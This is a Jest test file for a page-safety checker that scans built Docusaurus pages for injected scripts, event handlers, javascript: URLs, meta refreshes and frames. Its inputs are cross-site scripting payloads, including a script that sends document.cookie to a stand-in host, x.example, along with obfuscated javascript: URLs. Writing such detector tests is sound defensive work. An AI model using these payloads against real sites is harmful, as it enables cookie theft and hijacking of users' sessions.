/**
 * @jest-environment node
 *
 * What content may not bring into a built page: the site's own inline scripts are allowed by their exact
 * text, and anything else a page holds — a script that merely looks like React's, an event handler, a
 * `javascript:` URL, a meta refresh, a frame — is named, wherever the browser's parser puts it.
 */
import { checkPage, isJavaScriptUrl, type PageTrust } from '../pageSafety';
import type { SiteScripts } from '../../rules/buildFiles';

const THEME = '!function(){document.documentElement.setAttribute("data-theme","light")}()';
const RAF = 'requestAnimationFrame(function(){$RT=performance.now()})';
const PRELUDE = '$RB=[],$RV=function(e){e.length=0},($RC=function(e,n){})';
const SITE: SiteScripts = {
  tags: [THEME],
  react: { constants: [RAF], prelude: PRELUDE, complete: '$RC' },
  staticDirectories: ['static'],
  pluginPages: ['docs/index.html'],
};
const trust = (overrides: Partial<PageTrust> = {}): PageTrust => ({
  site: SITE,
  isOwn: () => false,
  isStatic: false,
  isPluginPage: false,
  ...overrides,
});

/** A page laid out as Docusaurus writes it, with React's reveal of boundary B:0 and `content` in the root. */
const page = (content: string, head = '') =>
  `<!doctype html><html><head>${head}<script type="application/ld+json">{"@type":"Thing"}</script></head>` +
  `<body><script>${THEME}</script><div id="__docusaurus"><main>${content}<template id="B:0"></template></main>` +
  `<script>${RAF}</script><div hidden id="S:0"><p>late</p></div><script>${PRELUDE}("B:0","S:0")</script></div></body></html>`;

const kinds = (html: string, options?: Partial<PageTrust>) =>
  checkPage(html, trust(options)).problems.map((problem) => problem.kind);

describe('checkPage', () => {
  it('allows exactly the site’s own scripts: its HTML tags’ and React’s reveal of a boundary the page has', () => {
    const check = checkPage(page('<p>Text</p>'), trust());
    expect(check).toEqual({ origin: 'rendered', scripts: [THEME, RAF, `${PRELUDE}("B:0","S:0")`], problems: [] });
  });

  it('refuses a script that only starts like React’s runtime ($RX=, $RC(), whatever its place', () => {
    for (const text of [
      '$RX=0;location="//x.example/?"+document.cookie',
      '$RC("B:0","S:0");location="//x.example"',
      `${PRELUDE}("B:0","S:0");location="//x.example"`,
      // A reveal of a boundary the page does not have is not React's.
      '$RC("B:9","S:9")',
      `${RAF};fetch("//x.example")`,
    ]) {
      const check = checkPage(page(`<script>${text}</script>`), trust());
      expect([text, check.problems]).toEqual([
        text,
        [{ kind: 'script', detail: expect.stringContaining("an inline <script> the site's own code does not write") }],
      ]);
      expect(check.scripts).not.toContain(text);
    }
  });

  it('finds a script content moved out of the React root with stray end tags, or into <svg> or a template', () => {
    expect(kinds(page('</main></div></body><script>steal()</script>'))).toEqual(['script']);
    expect(kinds(page('<svg><script>steal()</script></svg>'))).toEqual(['script']);
    expect(kinds(page('<template><img src=x onerror=steal()></template>'))).toEqual(['event-handler']);
    expect(kinds(page(''), {})).toEqual([]);
  });

  it('refuses a script react-helmet put into the head (<Head> in a page) and one of type module', () => {
    expect(kinds(page('', '<script data-rh="true">steal()</script>'))).toEqual(['script']);
    expect(kinds(page('<script type="module">steal()</script>'))).toEqual(['script']);
  });

  it('names event handlers, javascript: URLs, meta http-equiv and frames', () => {
    const hostile = [
      ['<img src="x" onerror="steal()">', 'event-handler', 'the event-handler attribute onerror on <img>'],
      ['<a href="javascript:steal()">x</a>', 'javascript-url', 'a javascript: URL in href of <a>'],
      ['<a href=" JaVa&#x09;Script:steal()">x</a>', 'javascript-url', 'a javascript: URL in href of <a>'],
      [
        '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
        'javascript-url',
        'a javascript: URL in xlink:href of <a>',
      ],
      [
        '<svg><set attributeName="href" to="javascript:steal()"/></svg>',
        'javascript-url',
        'a javascript: URL in to of <set>',
      ],
      ['<meta http-equiv="refresh" content="0;url=//x.example">', 'meta-http-equiv', '<meta http-equiv="refresh">'],
      ['<iframe src="https://x.example"></iframe>', 'embedded', 'the element <iframe>'],
      ['<object data="x.swf"></object>', 'embedded', 'the element <object>'],
      ['<base href="https://x.example/">', 'embedded', 'the element <base>'],
    ] as const;
    for (const [html, kind, detail] of hostile) {
      expect([html, checkPage(page(html), trust()).problems]).toEqual([html, [{ kind, detail }]]);
    }
  });

  it('leaves plain text that mentions these alone', () => {
    expect(kinds(page('<p title="javascript: a language">javascript:alert(1) and onerror=x</p>'))).toEqual([]);
    expect(kinds(page('<a href="https://example.com/javascript:x">ok</a>'))).toEqual([]);
  });

  it('trusts a page a plugin wrote whole, but not the same page from a static folder or copied from content', () => {
    const redirect =
      '<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0; url=/docs/x"></head>' +
      "<script>window.location.href = '/docs/x' + window.location.search;</script></html>";
    expect(checkPage(redirect, trust({ isPluginPage: true }))).toEqual({
      origin: 'plugin',
      scripts: ["window.location.href = '/docs/x' + window.location.search;"],
      problems: [],
    });
    const fromStatic = checkPage(redirect, trust({ isStatic: true }));
    expect(fromStatic.origin).toBe('static');
    expect(fromStatic.problems.map((problem) => problem.kind)).toEqual(['meta-http-equiv', 'script']);
    // An HTML file a doc links to, which the bundler copies into assets/files/: no React root, no plugin.
    const copied = checkPage(redirect, trust());
    expect([copied.origin, copied.scripts, copied.problems.map((problem) => problem.kind)]).toEqual([
      'copied',
      [],
      ['meta-http-equiv', 'script'],
    ]);
  });

  it('names a <script src> in the content, which the paint-first loader would otherwise run', () => {
    expect(checkPage(page('<script src="/img/x.js" defer></script>'), trust()).problems).toEqual([
      { kind: 'script', detail: 'a <script src="/img/x.js"> in the page\'s content' },
    ]);
    expect(kinds(page('', '<script src="/assets/js/main.js" defer></script>'))).toEqual([]);
  });

  it('trusts what the build’s own steps added (the paint-first loader)', () => {
    const html = page('', '<script>(function(){var s=["/main.js"]})()</script>');
    expect(kinds(html)).toEqual(['script']);
    expect(kinds(html, { isOwn: (text) => text === '(function(){var s=["/main.js"]})()' })).toEqual([]);
  });
});

describe('isJavaScriptUrl (WHATWG URL parsing)', () => {
  it.each([
    ['javascript:x', true],
    ['  JAVASCRIPT:x', true],
    ['\u0001javascript:x', true],
    ['java\tscript:x', true],
    ['java\nscript:x', true],
    ['https://x/javascript:', false],
    ['/javascript:x', false],
    ['', false],
  ])('%j → %s', (value, expected) => expect(isJavaScriptUrl(value)).toBe(expected));
});
